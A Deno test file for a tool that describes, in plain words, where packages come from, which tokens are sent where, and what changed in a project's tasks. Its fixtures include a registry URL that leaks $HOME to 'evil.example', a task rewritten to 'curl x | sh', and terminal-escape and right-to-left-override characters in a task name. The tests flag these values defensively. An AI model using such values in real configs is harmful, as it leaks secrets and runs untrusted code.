import { assertEquals } from "@std/assert";
import { describeChange, describeParts } from "../../../../src/tools/trust/describe_parts.ts";

Deno.test("describeParts() says in words where packages come from and what is sent there", () => {
  const npmrc = [
    ["registry", "https://packages.example/npm/"],
    ["@acme:registry", "https://acme.example"],
    ["//acme.example/:_authToken", "${NPM_TOKEN}"],
    ["//plain.example:8080/npm/:_password", "$SECRET"],
    ["//plain.example:8080/npm/:username", "me"],
    ["@odd:registry", "http://evil.example/${HOME}/"],
  ];
  assertEquals(describeParts({ npmrc }), [
    "packages come from packages.example",
    "packages of @acme come from acme.example",
    "$NPM_TOKEN is sent to acme.example",
    "$SECRET is sent to plain.example:8080",
    "a credential in the file is sent to plain.example:8080",
    "packages of @odd come from http://evil.example/${HOME}/",
    "$HOME is sent to http://evil.example/${HOME}/",
  ]);
});

Deno.test("describeParts() has a line for each thing that can run code, and none that a terminal obeys", () => {
  const parts = {
    env: { A: "1", GONE: null },
    tasks: { build: { run: ["make", "all"] }, "\u001b[2Jx": "y\u202e" },
    settings: { auto_install: true },
    mirrors: { "https://a.example/": "https://b.example/" },
  };
  assertEquals(describeParts(parts), [
    'env.A = "1"',
    "env.GONE = false",
    'tasks.build.run = ["make","all"]',
    'tasks.\\u001b[2Jx = "y\\u202e"',
    "a missing tool is installed when it is first run (auto_install)",
    "downloads of https://a.example/ come from https://b.example/",
  ]);
});

Deno.test("describeChange() shows what went and what came, and leaves out what stayed", () => {
  const before = { tasks: { build: "make", test: "make test" } };
  const now = { tasks: { build: "curl x | sh", test: "make test" } };
  assertEquals(describeChange(before, now), [
    '- tasks.build = "make"',
    '+ tasks.build = "curl x | sh"',
  ]);
  assertEquals(describeChange(undefined, { env: { A: "1" } }), ['+ env.A = "1"']);
});
